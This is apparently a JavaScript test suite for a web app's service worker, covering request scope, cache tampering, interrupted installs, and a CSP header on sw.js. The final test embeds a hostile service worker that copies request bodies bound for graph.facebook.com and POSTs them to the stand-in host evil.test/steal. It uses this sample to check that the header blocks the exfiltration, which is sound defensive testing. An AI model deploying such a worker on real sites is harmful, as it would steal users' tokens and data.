// What the worker answers for and what not, and what becomes of one that is spoiled, cut short or hostile.

import assert from "node:assert/strict";
import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { serveGuide } from "./embed-stage.mjs";
import { caches, cutNetwork, kept } from "./kept.mjs";
import { setStage } from "./stage.mjs";
import { randomToken } from "./token.mjs";

let stage;
before(async () => {
  stage = await setStage();
});
after(() => stage?.close());

test("the worker answers for its own files only: no other host, no other method, not inside other pages", async (t) => {
  await serveGuide(stage);
  const guide = await kept(stage, t, { host: "guide.example" });
  const others = ["version.json", "embed/", "sw.js?x", "assets/none.js"];
  const throughWorker = [];
  guide.page.on("response", (response) => {
    if (response.fromServiceWorker()) throughWorker.push(new URL(response.url()).pathname);
  });
  await guide.page.evaluate(
    async (paths) => {
      for (const path of paths) await fetch(path);
    },
    [...others, "config.json"],
  );
  const own = throughWorker.filter((path) => path === "/config.json" || others.includes(path.slice(1)));
  assert.deepEqual(own, ["/config.json"]);

  const before = stage.hosts.log.length;
  await cutNetwork(guide);
  for (const path of others) {
    const answered = await guide.page.evaluate(
      (path) =>
        fetch(path, { cache: "reload" }).then(
          () => true,
          () => false,
        ),
      path,
    );
    assert.equal(answered, false, path);
  }
  const posted = await guide.page.evaluate(() =>
    fetch("config.json", { method: "POST" }).then(
      () => true,
      () => false,
    ),
  );
  assert.equal(posted, false);
  const settings = await guide.page.evaluate(() =>
    fetch("config.json").then(
      ({ ok }) => ok,
      () => false,
    ),
  );
  assert.equal(settings, true, "this test can tell");
  assert.equal(stage.hosts.log.length, before);
});

test("wrong bytes in the cache are not used", async (t) => {
  const guide = await kept(stage, t);
  const spoiled = await guide.page.evaluate(async () => {
    const [name] = await caches.keys();
    const cache = await caches.open(name);
    let count = 0;
    for (const request of await cache.keys()) {
      if (!/assets\/(?:boot|guide|main|en)/.test(request.url)) continue;
      await cache.put(request, new Response("spoiled", { headers: { "Content-Type": "text/javascript" } }));
      count += 1;
    }
    return count;
  });
  assert.ok(spoiled > 3);
  await guide.page.reload();
  await guide.seeScreen("start");
  await guide.page.waitForFunction(() => document.querySelector("#keeping"));
});

test("an installation that is cut short keeps nothing, and the page works all the same", async (t) => {
  await stage.serveChanged("short.example", async (dir) => {
    const worker = join(dir, "sw.js");
    const text = await readFile(worker, "utf8");
    await writeFile(worker, text.replace(/assets\/practice-\w+\.json/, "assets/practice-gone.json"));
  });
  const guide = await stage.visit(t, "/", { host: "short.example" });
  await guide.page.waitForFunction(() => document.querySelector("#keeping"));
  await guide.page.waitForTimeout(1500);
  assert.deepEqual(await caches(guide), []);
  assert.equal(
    await guide.page.evaluate(async () => (await navigator.serviceWorker.getRegistration())?.active ?? null),
    null,
  );
});

test("a hostile worker can send nothing away under the header of sw.js", async (t) => {
  const hostile = `addEventListener("install", () => skipWaiting());
    addEventListener("activate", (event) => event.waitUntil(clients.claim()));
    addEventListener("fetch", (event) => {
      if (event.request.url.includes("graph.facebook.com")) {
        const stolen = event.request.clone().text().then((body) => fetch("https://evil.test/steal", { method: "POST", mode: "no-cors", body }));
        event.waitUntil(stolen.catch(() => {}));
      }
    });`;
  const token = randomToken();
  const attack = async (host, header) => {
    await stage.serveChanged(host, async (dir) => {
      await writeFile(join(dir, "sw.js"), hostile);
      if (!header) {
        const headers = join(dir, "_headers");
        const text = await readFile(headers, "utf8");
        await writeFile(
          headers,
          text.replace(/(\/sw\.js\n {2}Content-Security-Policy: ).*/, "$1frame-ancestors 'none'"),
        );
      }
    });
    await stage.graph.world("good", token);
    const guide = await kept(stage, t, { host, path: "/#/step/4" });
    await guide.page.locator("html[data-seal=sealed]").waitFor();
    await guide.checkPasted(token);
    await guide.page.waitForTimeout(300);
    return stage.hosts.log.filter(({ host, body }) => host === "evil.test" && body.includes(token)).length;
  };
  assert.equal(await attack("hostile.example", true), 0);
  assert.ok((await attack("unprotected.example", false)) > 0, "without the header it gets out: this test can tell");
});
